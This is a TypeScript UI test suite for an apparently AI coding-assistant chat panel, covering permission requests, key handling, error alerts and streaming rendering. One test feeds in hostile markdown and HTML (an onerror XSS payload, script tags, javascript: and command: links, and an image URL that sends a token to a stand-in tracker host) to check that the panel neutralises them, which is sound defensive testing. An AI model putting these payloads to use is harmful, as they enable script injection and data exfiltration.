import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Patch } from '../../src/chat/patchProtocol';
import { pressComposedEnter } from '../harness/panelSandbox/composedEnter';
import { eventually } from '../harness/panelSandbox/eventually';
import { panelFixture } from '../harness/panelSandbox/panelFixture';
import type { SandboxPanel } from '../harness/panelSandbox/sandbox';
import {
  agentState,
  ANSWER,
  emptyState,
  errorState,
  permission,
  streamingState,
  tool,
  workState,
} from '../harness/panelSandbox/states';

const { withPanel, message, overflows } = panelFixture();
const append = (text: string): Patch => ({ op: 'append', itemId: 'a1', blockId: 'x1', text });

test('an error is an alert that says what failed, what was kept and what to do', async () => {
  await withPanel(errorState(), {}, async (panel) => {
    const alert = panel.page.getByRole('alert');
    await alert.getByText('Your message and everything above are kept.').waitFor();
    await alert.getByRole('button', { name: 'Retry', exact: true }).click();
    await alert.getByRole('button', { name: 'Show log', exact: true }).click();
    await panel.page.getByRole('button', { name: 'Save and try again', exact: true }).click();
    await eventually(() => panel.sent('toolAction').length === 1);
    assert.deepEqual(panel.sent('retry'), [{ type: 'retry', itemId: 'e1' }]);
    assert.equal(panel.sent('showLog').length, 1);
    assert.deepEqual(panel.sent('toolAction')[0]?.action, 'saveAndRetry');
    assert.equal(await alert.getByText('529').count(), 0);
    await alert.getByRole('button', { name: 'Details' }).click();
    await alert.getByText('529').waitFor();
  });
});

test('Enter of an input method never sends, plain Enter sends once and clears when it is taken', async () => {
  await withPanel(emptyState(), {}, async (panel) => {
    await message(panel).fill('にほん');
    await pressComposedEnter(message(panel));
    await message(panel).press('Shift+Enter');
    assert.equal(panel.sent('submit').length, 0);
    // The second at once: after some seconds without an answer it would rightly be sent again.
    await message(panel).evaluate((box) => {
      const enter = { key: 'Enter', bubbles: true, cancelable: true };
      for (let i = 0; i < 2; i += 1) box.dispatchEvent(new KeyboardEvent('keydown', enter));
    });
    await eventually(() => panel.sent('submit').length > 0);
    const [submit, ...others] = panel.sent('submit');
    assert.ok(submit);
    assert.deepEqual([submit.text, others], ['にほん', []]);
    assert.notEqual(await message(panel).inputValue(), '');
    await panel.send({ type: 'submitted', promptId: submit.promptId });
    await eventually(async () => (await message(panel).inputValue()) === '');
  });
});

test('a refused prompt stays in the box and the reason is said', async () => {
  await withPanel(emptyState(), {}, async (panel) => {
    await message(panel).fill('fix it');
    await panel.page.getByRole('button', { name: 'Send', exact: true }).click();
    await eventually(() => panel.sent('submit').length === 1);
    const promptId = panel.sent('submit')[0]?.promptId ?? '';
    await panel.send({ type: 'submitted', promptId, refused: 'No folder is open.' });
    await panel.page.getByRole('alert').getByText('No folder is open.').waitFor();
    assert.equal(await message(panel).inputValue(), 'fix it');
  });
});

test('with the keys swapped Enter breaks the line and Ctrl+Enter sends', async () => {
  await withPanel({ ...emptyState(), sendKey: 'modEnter' }, {}, async (panel) => {
    await message(panel).fill('one');
    await message(panel).press('Enter');
    assert.equal(await message(panel).inputValue(), 'one\n');
    await message(panel).press('Control+Enter');
    await eventually(() => panel.sent('submit').length === 1);
  });
});

test('the draft is posted by itself and comes back with the next snapshot', async () => {
  await withPanel(emptyState(), { draft: 'half a ' }, async (panel) => {
    await message(panel).focus();
    await message(panel).press('End');
    await panel.page.keyboard.type('thought');
    await eventually(() => panel.sent('draft').at(-1)?.text === 'half a thought');
    assert.equal(panel.sent('inputFocused').length > 0, true);
  });
});

test('Up recalls in the empty box; Escape stops, but first closes an open picker', async () => {
  await withPanel(workState(), {}, async (panel) => {
    await message(panel).press('ArrowUp');
    assert.match(await message(panel).inputValue(), /^Rename calcTotal/);
    await panel.page.getByRole('button', { name: 'Permission mode: Ask' }).click();
    await panel.page.getByRole('listbox', { name: 'Permission mode' }).waitFor();
    await panel.page.keyboard.press('Escape');
    await eventually(async () => (await panel.page.getByRole('listbox').count()) === 0);
    assert.equal(panel.sent('stop').length, 0);
    await panel.page.keyboard.press('Escape');
    await eventually(() => panel.sent('stop').length === 1);
  });
});

test('Escape right after the one that closed a picker stops, however busy the browser is', async () => {
  await withPanel(workState(), {}, async (panel) => {
    const { page } = panel;
    for (const name of ['Permission mode: Ask', 'Usage: 62k · $0.18']) {
      await page.getByRole('button', { name, exact: true }).click();
      await page.locator('.popup').waitFor();
      const before = panel.sent('stop').length;
      const left = await page.evaluate(async () => {
        const escape = { key: 'Escape', bubbles: true, cancelable: true };
        const press = () =>
          document.activeElement?.dispatchEvent(new KeyboardEvent('keydown', escape));
        press();
        // Microtasks only: nothing is painted between the two.
        for (let i = 0; i < 1000 && document.querySelector('.popup'); i += 1)
          await Promise.resolve();
        press();
        return document.querySelectorAll('.popup').length;
      });
      assert.equal(left, 0, name);
      await eventually(() => panel.sent('stop').length === before + 1);
    }
  });
});

test('a picker works by keyboard, and what is refused says why and cannot be chosen', async () => {
  await withPanel(emptyState(), {}, async (panel) => {
    const { page } = panel;
    const button = page.getByRole('button', { name: 'Permission mode: Ask' });
    await button.focus();
    await page.keyboard.press('Enter');
    const bypass = page.getByRole('option', { name: /Bypass/ });
    assert.equal(await bypass.getAttribute('aria-disabled'), 'true');
    assert.match(await bypass.innerText(), /the session was not started with it/);
    await page.keyboard.press('End');
    await page.keyboard.press('Enter');
    assert.equal(panel.sent('setMode').length, 0);
    await page.keyboard.press('p');
    await page.keyboard.press('Enter');
    await eventually(() => panel.sent('setMode').length === 1);
    assert.equal(panel.sent('setMode')[0]?.mode, 'plan');
    assert.equal(await button.evaluate((e) => e === document.activeElement), true);
  });
});

test('a permission request takes no focus and is said; a key grants it only after half a second', async () => {
  await withPanel({ ...workState(), permissions: [] }, {}, async (panel) => {
    const { page } = panel;
    await message(panel).focus();
    await panel.patch({ op: 'set', fields: { permissions: [permission()] } });
    const card = page.getByRole('group', { name: 'Permission request: Run a command' });
    await card.waitFor();
    assert.equal(await message(panel).evaluate((e) => e === document.activeElement), true);
    const loud = page.locator('[data-live="assertive"]');
    await loud.getByText('Permission request: Run a command').waitFor({ state: 'attached' });
    const allow = card.getByRole('button', { name: 'Allow once' });
    // In one step: half a second may pass between two of them. The click is the one that a key makes.
    await allow.evaluate((button: HTMLElement) => {
      button.focus();
      button.click();
    });
    assert.equal(panel.sent('answerPermission').length, 0);
    await eventually(async () => {
      await page.keyboard.press('Enter');
      return panel.sent('answerPermission').length > 0;
    });
    assert.equal(panel.sent('answerPermission')[0]?.answer, 'allowOnce');
    await panel.patch({ op: 'set', fields: { permissions: [] } });
    await eventually(() => message(panel).evaluate((e) => e === document.activeElement));
  });
});

test('Deny reads the reason, also by Enter in its box', async () => {
  await withPanel(workState(), {}, async (panel) => {
    const { page } = panel;
    const reason = page.getByRole('textbox', { name: 'Reason (optional)' });
    await reason.fill('not now');
    await page.getByRole('button', { name: 'Deny', exact: true }).click();
    await reason.press('Enter');
    await page.getByRole('button', { name: 'Allow for this conversation' }).click();
    await eventually(() => panel.sent('answerPermission').length === 3);
    assert.deepEqual(
      panel.sent('answerPermission').map(({ answer, reason: why }) => [answer, why]),
      [
        ['deny', 'not now'],
        ['deny', 'not now'],
        ['allowConversation', undefined],
      ],
    );
  });
});

test('a question whose agent has ended offers to go on, to deny with a reason, and to put it away', async () => {
  await withPanel({ ...workState(), status: { kind: 'idle' } }, {}, async (panel) => {
    const { page } = panel;
    const lost = permission({ interrupted: true });
    await panel.patch({ op: 'set', fields: { permissions: [lost] } });
    const card = page.getByRole('group', { name: 'Permission request: Run a command' });
    await card.getByText('Your answer goes as the next message.').waitFor();
    assert.equal(await card.getByRole('button', { name: 'Allow once' }).count(), 0);
    await card.getByRole('textbox', { name: 'Reason (optional)' }).fill('not now');
    for (const name of ['Continue', 'Deny', 'Dismiss']) {
      await card.getByRole('button', { name, exact: true }).click();
    }
    await eventually(() => panel.sent('answerPermission').length === 3);
    assert.deepEqual(
      panel.sent('answerPermission').map(({ answer, reason }) => [answer, reason]),
      [
        ['allowOnce', undefined],
        ['deny', 'not now'],
        ['denyAndStop', 'not now'],
      ],
    );
  });
});

test('hostile text does nothing: no script, no network, no command', async () => {
  const hostile = [
    '<img src=x onerror=alert(1)>',
    '![p](https://tracker.invalid/?q=TOKEN)',
    '[go](command:workbench.action.terminal.new)',
    '[x](javascript:1)',
    '<script>alert(1)</script><style>*{display:none}</style>',
    `|${' a |'.repeat(2000)}\n|${'---|'.repeat(2000)}\n|${' 1 |'.repeat(2000)}`,
    '```js\nalert(1) // never closed',
  ].join('\n\n');
  await withPanel(streamingState(hostile), { width: 300 }, async (panel) => {
    const { page } = panel;
    const words = page.locator('.text');
    await words.getByText('never closed').waitFor();
    assert.equal(await words.locator('img, script, style, iframe, form').count(), 0);
    assert.equal(await words.locator('[style], [onerror], [onclick]').count(), 0);
    const links = await words.locator('a').evaluateAll((all) => all.map((a) => a.outerHTML));
    assert.equal(
      links.some((html) => /command:|javascript:/.test(html)),
      false,
    );
    await words.getByText('<img src=x onerror=alert(1)>').waitFor();
    for (const link of await words.locator('a').all()) await link.click();
    assert.deepEqual(panel.requests, []);
    assert.equal(page.url(), 'https://panel.invalid/');
    assert.ok(panel.sent('openLink').every((m) => m.href.startsWith('https://tracker.invalid/')));
    assert.equal(await overflows(panel), false);
  });
});

test('scrolling up one pixel stops following, and the way back is one click', async () => {
  await withPanel(streamingState(), { height: 500 }, async (panel) => {
    const { page } = panel;
    const log = page.getByRole('log');
    const gap = () => log.evaluate((e) => e.scrollHeight - e.scrollTop - e.clientHeight);
    await message(panel).waitFor();
    // Growing text is drawn with the next frame.
    const grows = async (words: string, count: number): Promise<void> => {
      await panel.patch(append(`\n\n${words}`.repeat(20)));
      await eventually(async () => (await log.getByText(words).count()) === count);
    };
    await grows('One more paragraph.', 20);
    await eventually(async () => (await gap()) <= 1);
    const top = await log.evaluate((e) => (e.scrollTop -= 1));
    await grows('And more.', 20);
    await eventually(async () => (await gap()) > 100);
    assert.equal(await log.evaluate((e) => e.scrollTop), top);
    await page.getByRole('button', { name: 'Jump to latest', exact: true }).click();
    await eventually(async () => (await gap()) <= 1);
    await grows('And more.', 40);
    await eventually(async () => (await gap()) <= 1);
    await eventually(async () => (await page.getByRole('button', { name: 'Jump' }).count()) === 0);
  });
});

test('5,000 deltas with losses and a new view on the way draw what the whole text draws', async () => {
  const whole = `${ANSWER}\n\n`.repeat(12);
  const size = Math.ceil(whole.length / 5000);
  const deltas = Array.from({ length: 5000 }, (_, i) => whole.slice(i * size, (i + 1) * size));
  const finish: Patch = { op: 'finish', itemId: 'a1', blockId: 'x1' };
  const html = (panel: SandboxPanel) => panel.page.locator('.text').innerHTML();
  let expected = '';
  await withPanel(streamingState(whole), {}, async (panel) => {
    await message(panel).waitFor();
    await panel.patch(finish);
    assert.ok((await panel.page.locator('.text .md-block').count()) > 90);
    expected = await html(panel);
  });
  await withPanel(streamingState(''), {}, async (panel) => {
    await message(panel).waitFor();
    const upTo = (end: number) => streamingState(deltas.slice(0, end).join(''));
    const send = (from: number, to: number) =>
      panel.burst(deltas.slice(from, to).map((text) => [append(text)]));
    await send(0, 2000);
    // Hidden: what is sent meanwhile is lost, and the first thing after it leaves a gap.
    panel.skip();
    panel.hold(upTo(4000));
    const asked = panel.sent('ready').length;
    await panel.patch(append('lost'));
    await eventually(() => panel.sent('ready').length > asked);
    await send(4000, 4500);
    await panel.page.reload();
    await message(panel).waitFor();
    await send(4500, 5000);
    await panel.patch(finish);
    await eventually(async () => (await html(panel)) === expected);
    assert.equal(await html(panel), expected);
  });
});

test('of a long answer that streams in, its text is kept once or twice and not once a frame', async () => {
  await withPanel(streamingState(''), {}, async (panel) => {
    await message(panel).waitFor();
    const session = await panel.page.context().newCDPSession(panel.page);
    const heap = async () => {
      await session.send('HeapProfiler.collectGarbage');
      return (await session.send('Runtime.getHeapUsage')).usedSize;
    };
    const before = await heap();
    const words = `${'A few words of a paragraph. '.repeat(20)}\n\n`;
    const parts = Array.from({ length: 600 }, (_, at) => [append(`Part ${at}: ${words}`)]);
    await panel.stream(parts, 5);
    await panel.page.getByText('Part 599: A few').waitFor();
    const text = 600 * words.length;
    const grown = (await heap()) - before;
    assert.ok(grown < 20 * text, `${grown} bytes for a text of ${text}`);
  });
});

test('what comes at once is drawn in several frames, its first words with the first', async () => {
  const count = 2000;
  await withPanel(streamingState(''), {}, async (panel) => {
    await message(panel).waitFor();
    await panel.page.evaluate(() => {
      const seen: number[] = [];
      const look = (): void => {
        const blocks = document.querySelectorAll('.md-block').length;
        if (blocks !== (seen.at(-1) ?? 0)) seen.push(blocks);
        requestAnimationFrame(look);
      };
      look();
      Object.assign(window, { seen });
    });
    const words = 'A few words of a paragraph. '.repeat(5);
    await panel.patch(append(`${words}\n\n`.repeat(count)));
    const blocks = panel.page.locator('.md-block');
    await eventually(async () => (await blocks.count()) === count);
    const seen = await panel.page.evaluate(() => Reflect.get(window, 'seen') as number[]);
    assert.ok(seen.length >= 5, `in ${seen.length} frames`);
    assert.ok((seen[0] ?? 0) >= 1 && (seen[0] ?? count) < count / 4, `${seen[0]} in the first`);
  });
});

test('a selection in streaming text stays while the text grows', async () => {
  await withPanel(streamingState('First paragraph.\n\nSecond, still'), {}, async (panel) => {
    const { page } = panel;
    await page.locator('.md-block').nth(1).waitFor();
    await page.evaluate(() => {
      const range = document.createRange();
      const blocks = document.querySelectorAll('.md-block');
      const first = blocks[0]?.querySelector('p')?.firstChild;
      const second = blocks[1]?.querySelector('p')?.firstChild;
      if (!first || !second) throw new Error('no text');
      range.setStart(first, 0);
      range.setEnd(second, 6);
      getSelection()?.addRange(range);
    });
    const selected = await page.evaluate(() => getSelection()?.toString());
    for (const word of [' growing', ' and', ' growing', '.\n\n', 'Third.']) {
      await panel.patch(append(word));
    }
    await panel.patch({ op: 'finish', itemId: 'a1', blockId: 'x1' });
    await page.getByRole('log').getByText('Third.').waitFor();
    assert.equal(await page.evaluate(() => getSelection()?.toString()), selected);
  });
});

test('a selection stays where words behind it become code, bold or a link, and in thinking', async () => {
  const select = (panel: SandboxPanel, box: string) =>
    panel.page.evaluate((selector) => {
      const node = document.querySelector(selector)?.firstChild;
      if (!node) throw new Error('no text');
      getSelection()?.setBaseAndExtent(node, 4, node, 9);
    }, box);
  const selected = (panel: SandboxPanel) => panel.page.evaluate(() => getSelection()?.toString());
  for (const [open, closed] of [
    ['`foo', '` now'],
    ['**foo', '** now'],
    ['[foo](https://a.example', '/b) now'],
    ['src/a.ts', ':12 now'],
  ] as const) {
    await withPanel(streamingState(`Use words ${open}`), {}, async (panel) => {
      await panel.page.locator('.md-block p').waitFor();
      await select(panel, '.md-block p');
      await panel.patch(append(closed));
      await panel.page.locator('.md-block p :is(code, strong, a)').waitFor();
      assert.equal(await selected(panel), 'words', open);
    });
  }
  await withPanel(streamingState('x'), {}, async (panel) => {
    const thought = { kind: 'thinking' as const, id: 'k9', text: 'Use words', streaming: true };
    await panel.patch({ op: 'block', itemId: 'a1', block: thought });
    await panel.page.getByRole('button', { name: 'Thinking', exact: true }).last().click();
    await select(panel, '.thinking-text');
    await panel.patch({ op: 'append', itemId: 'a1', blockId: 'k9', text: ' of others' });
    await panel.page.getByText('Use words of others', { exact: true }).waitFor();
    assert.equal(await selected(panel), 'words');
  });
});

test('a host that does not answer is said, and Retry asks again', async () => {
  await withPanel(emptyState(), { answerReady: false }, async (panel) => {
    const alert = panel.page.getByRole('alert');
    await alert.getByText('Patchbay did not answer').waitFor();
    const asked = panel.sent('ready').length;
    await alert.getByRole('button', { name: 'Retry' }).click();
    await eventually(() => panel.sent('ready').length > asked);
    await panel.snapshot(emptyState());
    await message(panel).waitFor();
    await eventually(async () => (await alert.count()) === 0);
  });
});

test('a sub-agent holds its own calls, and rows of a later patch come into it', async () => {
  await withPanel(agentState(), {}, async (panel) => {
    const agent = panel.page.getByRole('group', { name: 'Agent: Find all callers', exact: true });
    await agent.getByRole('button', { name: 'Agent, running' }).click();
    await agent.getByRole('group', { name: 'Symbols, cancelled' }).waitFor();
    const block = tool('g9', { title: 'Problems', parentToolUseId: 'g1' });
    await panel.patch({ op: 'block', itemId: 'a1', block });
    await agent.getByRole('group', { name: 'Problems, done' }).waitFor();
    await panel.page.getByRole('button', { name: 'Show diff', exact: true }).click();
    await eventually(() => panel.sent('showDiff').length === 1);
  });
});
